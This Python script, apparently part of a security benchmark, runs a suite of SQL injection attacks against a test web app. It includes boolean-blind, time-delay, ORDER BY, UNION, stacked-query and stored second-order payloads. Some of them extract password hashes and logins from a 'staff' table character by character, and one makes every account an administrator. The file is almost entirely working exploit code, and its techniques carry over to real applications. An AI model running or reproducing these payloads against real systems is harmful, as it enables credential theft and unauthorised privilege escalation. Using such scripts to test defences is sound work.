"""Attacks that a person would write by hand: each reads logins or hashes of the table ``staff``, or changes it.

    python -m bench.campaigns.apps.intruder URL postgres boolean

``URL`` is that of the app. Prints what was read.
"""

import re
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Mapping
from typing import Final
from urllib.parse import quote

BOOLEAN_CHARACTERS: Final = 9
"""Characters that are read by the page's content, at seven requests each."""
TIMED_CHARACTERS: Final = 2
DELAY_S: Final = 1.2
VICTIM: Final = 7
"""The member whose stored city the attacker writes."""
CODE = "(SELECT ascii(substr(password_hash, {at}, 1)) FROM staff WHERE id = 1)"
CODE_OF = {"sqlite": CODE.replace("ascii", "unicode")}
DELAY_OF = {
    "postgres": f"(SELECT 1 FROM pg_sleep({DELAY_S}))", "mysql": f"sleep({DELAY_S})",
    "sqlite": "(SELECT 1 FROM (SELECT hex(randomblob(90000000))) AS t)",
}  # fmt: skip
COMMENT = "-- "


def get(url: str, path: str) -> str:
    """Request a path and return its page, or nothing if the app failed."""
    try:
        with urllib.request.urlopen(url + path, timeout=60) as response:  # noqa: S310 - of this app
            return response.read().decode()
    except urllib.error.HTTPError as error:
        error.close()
        return ""


def find(url: str, number: str) -> str:
    """Request ``/find`` with a number, or what stands in its place."""
    return get(url, f"/find?id={quote(number)}&name=a")


def read_text(count: int, is_above: Callable[[int, int], bool]) -> str:
    """Read characters by bisection: ``is_above`` compares the code at a position, from 1, with a limit."""
    found = ""
    for at in range(1, count + 1):
        low, high = 32, 127
        while low < high:
            middle = (low + high) // 2
            if is_above(at, middle):
                low = middle + 1
            else:
                high = middle
        found += chr(low)
    return found


def dump_by_content(url: str, dialect: str) -> str:
    """Read a hash by a condition that empties the page."""
    code = CODE_OF.get(dialect, CODE)
    return read_text(BOOLEAN_CHARACTERS, lambda at, limit: "<td>" in find(url, f"5 AND {code.format(at=at)} > {limit}"))


def dump_by_time(url: str, dialect: str) -> str:
    """Read the beginning of a hash by a condition that delays the page."""
    code, delay = CODE_OF.get(dialect, CODE), DELAY_OF[dialect]

    def is_above(at: int, limit: int) -> bool:
        begun = time.monotonic()
        find(url, f"5 AND id = 5 AND 1 = (CASE WHEN {code.format(at=at)} > {limit} THEN {delay} ELSE 1 END)")
        return time.monotonic() - begun > DELAY_S / 2

    return read_text(TIMED_CHARACTERS, is_above)


def dump_by_order(url: str, dialect: str) -> str:
    """Read a hash by the order of the page."""
    code = CODE_OF.get(dialect, CODE)
    by_name = get(url, "/sorted?by=name")

    def is_above(at: int, limit: int) -> bool:
        by = f"(CASE WHEN {code.format(at=at)} > {limit} THEN name ELSE isbn END)"
        return get(url, f"/sorted?by={quote(by)}") == by_name

    return read_text(BOOLEAN_CHARACTERS, is_above)


def dump_by_union(url: str, dialect: str) -> str:
    """Append the table's rows in one statement without a comment, whose end becomes a condition of the table."""
    del dialect
    return find(url, "99999 UNION SELECT id, login, password_hash FROM staff WHERE id > 0")


def change_by_stacking(url: str, dialect: str) -> str:
    """Make each account an administrator's by a second statement."""
    del dialect
    return find(url, f"5; UPDATE staff SET role = 'admin' {COMMENT}") or "refused"


def dump_by_stored_text(url: str, dialect: str) -> str:
    """Store a text by a bound parameter, which another page puts into its statement."""
    del dialect
    stored = quote(f"' UNION SELECT id,login FROM staff{COMMENT}")
    get(url, f"/move?member={VICTIM}&city={stored}")
    found = get(url, f"/neighbours?member={VICTIM}")
    get(url, f"/move?member={VICTIM}&city=Lyon")
    return found


ATTACKS: Mapping[str, Callable[[str, str], str]] = {
    "boolean": dump_by_content, "time": dump_by_time, "order": dump_by_order, "union": dump_by_union,
    "stacked": change_by_stacking, "stored": dump_by_stored_text,
}  # fmt: skip


if __name__ == "__main__":
    _, app_url, name_of_dialect, name_of_attack = sys.argv
    print(re.sub(r"<[^>]+>+", " ", ATTACKS[name_of_attack](app_url, name_of_dialect)))
